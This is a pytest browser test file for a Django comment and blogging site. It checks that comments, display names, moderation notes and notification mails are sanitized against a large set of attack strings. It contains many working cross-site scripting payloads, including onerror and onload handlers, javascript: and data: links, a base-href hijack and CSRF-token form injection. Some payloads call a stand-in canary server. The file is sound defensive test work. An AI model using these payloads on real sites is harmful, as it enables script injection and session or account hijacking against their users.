"""Every published attack string, and some of our own, in all that colleagues write to each other (checks X1 to X3).

The content security policy is switched off for these pages: the cleaning alone must hold. Many attacks share a page.
"""

from __future__ import annotations

from collections.abc import Callable, Iterator
from datetime import timedelta
from urllib.parse import quote, urlsplit

import pytest
from django.utils import timezone

from aggregator import digest_letters, digests
from aggregator.models import Post
from bloghub.notifications.letters import tell_letter
from bloghub.notifications.models import Notification
from bloghub.people.models import Person
from comments import claim_letters, claiming, flagging, guidance, moderation, notifying, store
from comments.limits import Refused
from comments.models import Claim, Comment, CommentState, FlagReason
from tests.browser.conftest import OpenPage
from tests.browser.hostile import guarded, looked_at, vectors
from tests.corpus import needs_corpus
from tests.scale import scaled
from tests.web import Web, serve

pytestmark = [pytest.mark.browser, pytest.mark.django_db(transaction=True), pytest.mark.usefixtures("framed")]

# What must not stand in a page because of what somebody wrote; returns what it found, as text
INSPECT = """() => {
    const wrong = [];
    const foreign = "script:not([src^='/static/']),iframe,frame,object,embed,applet,base,math,template,dialog," +
        "meta[http-equiv=refresh],link[rel=import],portal,marquee,bgsound,isindex,keygen,layer,xml,xss";
    for (const element of document.querySelectorAll(foreign)) wrong.push(element.outerHTML.slice(0, 200));
    const strangers = document.querySelectorAll(":is(.comment, .look, .answered) .said, .prose, .reason, pre");
    for (const place of strangers) for (const element of place.querySelectorAll("*")) {
        if (element.closest("form,button,.acts,.who,.when") && !element.closest(".said, .prose, bdi")) continue;
        if (element.matches("form,input,button,select,textarea,style,svg,[style],[popover],[name]"))
            wrong.push("in content: " + element.outerHTML.slice(0, 200));
        if (element.id && !/^c[0-9]*-/.test(element.id)) wrong.push("id: " + element.outerHTML.slice(0, 200));
        for (const name of element.classList)
            if (!/^(hl-[a-z]|language-[\\w+#.-]+|mention|because|arabic|tall)$/.test(name)) wrong.push("class " + name);
    }
    for (const element of document.querySelectorAll("*")) {
        const strange = element.closest(".comment .said, .look .said, .prose, bdi, q, .name");
        for (const {name, value} of element.attributes) {
            if (/^(on|x-|v-)/i.test(name) || (strange && /^(data-|hx-)/i.test(name))) wrong.push(name + "=" + value);
            if (["href", "src", "action", "formaction", "poster", "background"].includes(name)) {
                const url = element.getAttribute(name);
                if (!/^(https?:\\/\\/|mailto:|\\/(?![\\/\\\\])|#|\\?|$)/i.test(url)) wrong.push(name + "=" + value);
            }
        }
        if (element.matches(".said a[href], .prose a[href]") && element.host !== location.host
            && element.protocol !== "mailto:")
            for (const word of ["noopener", "noreferrer", "nofollow"])
                if (!element.relList.contains(word)) wrong.push("no " + word + ": " + element.outerHTML.slice(0, 200));
    }
    return wrong;
}"""

OWN = """<img src=x onerror="window.__pwn=1;fetch('{canary}/onerror')">
![x]({canary}/image "a title")
[press](javascript:window.__pwn=1)
[press](java&#9;script:window.__pwn=1)
[press](<data:text/html,<script>window.__pwn=1</script>>)
<javascript:window.__pwn=1>
[ref]: vbscript:window.__pwn "x"
[x](" onmouseover=window.__pwn=1 x=")
[x](https://a.example/" onmouseover="window.__pwn=1)
![x](https://a.example/"onerror="window.__pwn=1)
```"><script>window.__pwn=1</script>
`<script>window.__pwn=1</script>`
https://a.example/<script>window.__pwn=1</script>
https://a.example/"onmouseover="window.__pwn=1
@bo<script>window.__pwn=1</script>
@"><img/src/onerror=window.__pwn=1>
http://testserver/posts/1/"><svg/onload=window.__pwn=1>
:smile"><script>window.__pwn=1</script>:
|a|b|\n|-|-|\n|<img src=x onerror=window.__pwn=1>|"onclick=window.__pwn=1|
> quote <iframe srcdoc="<script>parent.__pwn=1</script>">
<div hx-get="{canary}/hx" hx-trigger="load" data-hx-get="{canary}/dhx" x-init="window.__pwn=1">.</div>
<form id="body" action="{canary}/form"><input name="csrfmiddlewaretoken" autofocus onfocus="window.__pwn=1"></form>
<base href="{canary}/"><meta http-equiv="refresh" content="0;url={canary}/refresh"><dialog open popover>over</dialog>
</li></ol></section></main><h1 id="c1" class="masthead">not ours</h1><style>*{{display:none}}</style>
<details open ontoggle=window.__pwn=1><summary style="position:fixed;inset:0">over everything</summary></details>
&lt;script&gt;window.__pwn=1&lt;/script&gt; &#60;img src=x onerror=window.__pwn=1&#62;
[a\\](javascript:window.__pwn=1) <a href="//evil.example" ping="{canary}/ping" class="button" id="thread">x</a>"""


@pytest.fixture
def canary() -> Iterator[Web]:
    """A stranger's server that no page of ours may call."""
    with serve({}) as server:
        yield server


def attacks(canary: Web) -> list[str]:
    """The corpus's, and ours, each as raw HTML and as Markdown."""
    published = [str(vector["payload"]) for vector in vectors()]
    assert len(published) >= 300
    published = scaled(published, few=80)
    ours = [line.replace("\\n", "\n").format(canary=canary.url) for line in OWN.split("\n")]
    in_markdown = [f"[text]({text})\n\n> *{text}*\n\n- {text}" for text in ours + published[::5]]
    return ours + published + in_markdown


def hostile(person: Person, attack: str) -> None:
    """A colleague who is called like an attack, wherever a name may be chosen."""
    person.display_name, person.team, person.site = attack[:120], attack[:120], attack[:120]
    person.save()


@pytest.fixture
def said(canary: Web, make_post: Callable[..., Post], aino: Person, bo: Person, admin: Person) -> list[Comment]:
    """All attacks as comments under posts of 60 each; the first post's is flagged, answered, moderated."""
    script = f"\"'><img src=x onerror=\"window.__pwn=1;fetch('{canary.url}/n')\"><script>window.__pwn=1</script>"
    for person in (aino, bo, admin):
        hostile(person, f"{person.username[:1]}{script}")
    Person.objects.update(date_joined=timezone.now() - timedelta(days=900))
    comments: list[Comment] = []
    post = make_post(author=bo, title=script)
    start = timezone.now() - timedelta(days=200)
    for number, attack in enumerate(attacks(canary)):
        if number % 60 == 0:
            post = make_post(author=bo, title=f"{script} {number}", excerpt=script)
        before = comments[-1] if comments and number % 4 else None
        parent = before if before and before.post_id == post.pk and before.state == CommentState.VISIBLE else None
        try:
            draft = store.Draft(aino if number % 2 else bo, post, attack, parent)
            comments.append(store.publish(draft, start + timedelta(minutes=10 * number)))
        except Refused as refusal:
            assert refusal.code == "empty", refusal.message  # nothing of it is left to read
    _judge(comments, script, aino, bo, admin)
    return comments


def _judge(comments: list[Comment], script: str, aino: Person, bo: Person, admin: Person) -> None:
    """Reasons, notes and answers are attacks, too."""
    now = timezone.now()
    shown = [one for one in comments if one.author_id == bo.pk and one.state == CommentState.VISIBLE]
    for comment in shown[:4]:
        flagging.flag_comment(comment, aino, FlagReason.OTHER, script, now)
        flagging.answer(comment, script, now)
    moderation.hide(shown[0], admin, script, now)
    moderation.lock(shown[-1], admin, script, now)
    moderation.suspend(shown[1], "day", admin, script, now)
    guidance.publish(f"# {script}\n\n[x](javascript:window.__pwn=1) {script}", admin, now, must_accept=True)
    notifying.tell_of_new_comments(now)
    Claim.objects.get_or_create(
        blog=comments[0].post.blog, defaults={"email": "x@home.example", "invited_at": now, "comment": comments[0]}
    )


@needs_corpus
def test_no_attack_runs_where_colleagues_talk(
    said: list[Comment], canary: Web, open_page: OpenPage, aino: Person
) -> None:
    page = guarded(open_page, aino)
    sent: list[str] = []
    page.on("request", lambda request: sent.append(request.url))
    posts = sorted({one.post_id for one in said})
    paths = [f"/posts/{pk}/x/?piece=all&order={order}" for pk in posts for order in ("oldest",)]
    paths += [f"/posts/{posts[0]}/x/?piece=all&order={order}" for order in ("newest", "best")]
    paths += [f"/comments/{one.pk}/" for one in said[:60:9]]
    paths += ["/", "/latest/", "/discussed/", "/top/", "/people/", "/people/bo/", "/people/aino/", "/blogs/"]
    paths += [said[0].post.blog.get_absolute_url(), "/notifications/", "/settings/digest/", "/guidelines/"]
    mine = [one for one in said[:60] if one.author_id == aino.pk][:3]
    paths += [f"/comments/{one.pk}/{act}/" for one in mine for act in ("edit", "delete")]
    paths += [f"/posts/{one.post_id}/comments/new/?parent={one.pk}" for one in said[60:70:3]]
    assert looked_at(page, paths, INSPECT) == []
    assert [url for url in sent if urlsplit(url).netloc == canary.address] == []


@needs_corpus
def test_no_attack_runs_before_moderators(said: list[Comment], canary: Web, open_page: OpenPage, admin: Person) -> None:
    page = guarded(open_page, admin)
    flagged = [one for one in said if one.flags.exists()]
    paths = ["/moderation/", "/moderation/log/", "/guidelines/"]
    paths += [f"/moderation/acts/{act.pk}/" for one in flagged for act in one.acts.all()]
    paths += [f"/moderation/comments/{one.pk}/" for one in flagged]
    paths += [f"/comments/{said[1].pk}/flag/"]
    desks = ["comments/comment", "comments/flag", "comments/moderationact", "people/person"]
    desks.append(f"comments/comment/{flagged[0].pk}/change")
    assert looked_at(page, paths, INSPECT) + looked_at(page, [f"/admin/{desk}/" for desk in desks]) == []
    assert canary.requests == []
    page = guarded(open_page, flagged[0].author)  # type: ignore[arg-type]  # Bo wrote them
    wrong = looked_at(page, [f"/comments/{one.pk}/flags/" for one in flagged[1:]], INSPECT)
    page = guarded(open_page, Person.objects.get(username="aino"))
    wrong += looked_at(page, [f"/flags/{one.flags.get().pk}/" for one in flagged], INSPECT)
    assert wrong == []
    assert canary.requests == []


@needs_corpus
def test_no_attack_runs_in_what_a_script_puts_in(
    said: list[Comment], canary: Web, open_page: OpenPage, aino: Person
) -> None:
    """Previews and comments that have just been said are put into the page that is open."""
    page = guarded(open_page, aino)
    page.goto(said[0].post.get_absolute_url())
    look = page.evaluate(
        """async ([post, bodies]) => {
            const token = document.querySelector("[name=csrfmiddlewaretoken]").value, found = [];
            for (const body of bodies) {
                const answer = await fetch(`/posts/${post}/comments/new/`, {method: "POST",
                    headers: {"X-CSRFToken": token, "HX-Request": "true"},
                    body: new URLSearchParams({look: "1", body})});
                const place = document.createElement("div");
                place.innerHTML = await answer.text();
                document.querySelector("main").append(place);
            }
            const fresh = await fetch(`/posts/${post}/comments/fresh/?after=0&show=1`);
            const place = document.createElement("div");
            place.innerHTML = await fresh.text();
            document.querySelector("main").append(place);
            return document.querySelectorAll("main > div .said").length;
        }""",
        [said[0].post_id, attacks(canary)[:200]],
    )
    assert look > 200
    page.wait_for_timeout(200)
    assert page.evaluate(INSPECT) == []
    assert page.evaluate("window.__pwn") is None
    assert canary.requests == []


@needs_corpus
def test_no_attack_runs_in_a_mail(
    said: list[Comment], canary: Web, open_page: OpenPage, aino: Person, bo: Person
) -> None:
    told = list(Notification.objects.filter(recipient=bo).select_related("actor").order_by("-pk"))
    assert len(told) > 50
    now = timezone.now()
    digest = digests.of(bo, now)
    Post.objects.update(vote_count=3)
    [(_digest, found)] = digests.contents([digest])
    [invitation] = claiming.take_unsent(now)
    letters = [tell_letter(bo, told, set()), digest_letters.letter(digest, found), claim_letters.letter(invitation)]
    page = guarded(open_page, aino)
    for letter in letters:
        page.set_content(letter.html)
        assert page.evaluate("window.__pwn") is None
        assert page.locator("script,img,iframe,object,form,[onerror],[onload]").count() == 0
        hrefs = page.evaluate("[...document.querySelectorAll('[href]')].map(link => link.getAttribute('href'))")
        assert hrefs
        assert [href for href in hrefs if not href.startswith(("http://", "https://"))] == []
        assert "\n" not in letter.subject
    assert canary.requests == []


BOXES = """() => [...document.querySelectorAll(
    "body > header, main, footer, article > header, #conversation, .conversation-head h2, .say")].map(
        element => { const box = element.getBoundingClientRect(); return [box.x, box.width] })"""


@needs_corpus
def test_the_page_around_hostile_comments_keeps_its_shape(
    said: list[Comment], make_post: Callable[..., Post], open_page: OpenPage, aino: Person, bo: Person
) -> None:
    clean, guidelines = make_post(author=bo), guidance.current()
    assert guidelines
    guidance.accept(guidelines, aino, timezone.now())
    store.publish(store.Draft(aino, clean, "Plain words."), timezone.now() - timedelta(days=90))
    page = open_page(clean.get_absolute_url(), person=aino, bypass_csp=True)
    expected = page.evaluate(BOXES)
    assert len(expected) >= 5
    locked = [one.post_id for one in said][-1]
    for post in Post.objects.exclude(pk__in=[clean.pk, locked]).filter(comment_count__gt=0).order_by("pk"):
        page.goto(quote(post.get_absolute_url()) + "?piece=all")
        got = page.evaluate(BOXES)
        moved = [(a, b) for row, other in zip(expected, got, strict=True) for a, b in zip(row, other, strict=True)]
        assert [pair for pair in moved if abs(pair[0] - pair[1]) > 2] == [], post.pk
